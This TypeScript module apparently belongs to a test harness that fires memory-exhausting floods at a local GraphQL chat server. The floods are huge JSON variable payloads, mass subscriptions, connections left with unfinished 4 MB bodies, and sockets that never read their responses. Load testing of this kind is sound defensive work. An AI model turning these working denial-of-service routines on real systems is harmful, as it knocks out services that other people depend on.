/** Floods that use memory: parsed documents, unfinished bodies, and unread answers. */
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Headers } from '../users.js';
import type { Attack, Target } from './attack.js';
import { flood, onSockets, posts } from './flood.js';

/** The time for which clients hold memory, in milliseconds. */
const STAY_MS = 8_000;

/** JSON with three bytes per element, which uses some sixty bytes of heap. */
const empties = (bytes: number) => `[${'{},'.repeat(bytes / 3 - 2)}{}]`;

const CONTEXT = `subscription Context($input: ContextInput!) {
  branchHead(chatId: "long") { branch { context(input: $input) { systemPrompt } } }
}`;

/** Opens connections that send bytes, and read nothing. */
async function connectAll(target: Target, count: number, people: readonly Headers[], ofBody: (body: number) => string) {
  const sockets = Array.from({ length: count }, (_, n) => {
    const socket = connect(Number(new URL(target.url).port), '127.0.0.1');
    const lines = Object.entries(people[n % people.length]!).map(([name, value]) => `${name}: ${value}\r\n`);
    const head = `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n${lines.join('')}`;
    socket.on('error', () => {}).write(`${head}${ofBody(n)}`);
    return socket.pause();
  });
  await pause(STAY_MS);
  for (const socket of sockets) socket.destroy();
  return [];
}

export const MEMORY_FLOODS: readonly Attack[] = [
  flood('variables of empty objects', (target) => {
    const body = `{"query":"{ viewer { userId } }","variables":{"undeclared":${empties(4e6)}}}`;
    return posts(target, target.people, 40, () => body);
  }),
  flood('variables of empty objects that subscriptions keep', (target) => {
    const variables = `{"input":{"fragments":[{"data":${empties(1e6)}}]}}`;
    const payload = `{"query":${JSON.stringify(CONTEXT)},"variables":${variables}}`;
    return onSockets(target, { headers: target.owner, count: 5, stayMs: STAY_MS }, (socket) => {
      for (let id = 0; id < 20; id++) socket.send(`{"type":"subscribe","id":"${id}","payload":${payload}}`);
    });
  }),
  flood('bodies that lack their end', (target) => {
    const body = `content-length: 4000000\r\n\r\n{"query":"${'x'.repeat(3_998_000)}`;
    return connectAll(target, 200, target.people, () => body);
  }),
  flood('unread responses', (target) => {
    const body = JSON.stringify({ query: '{ chat(id: "long") { activeBranch { chain(limit: 10000) { id data } } } }' });
    return connectAll(target, 90, [target.owner], () => `content-length: ${body.length}\r\n\r\n${body}`);
  }),
];
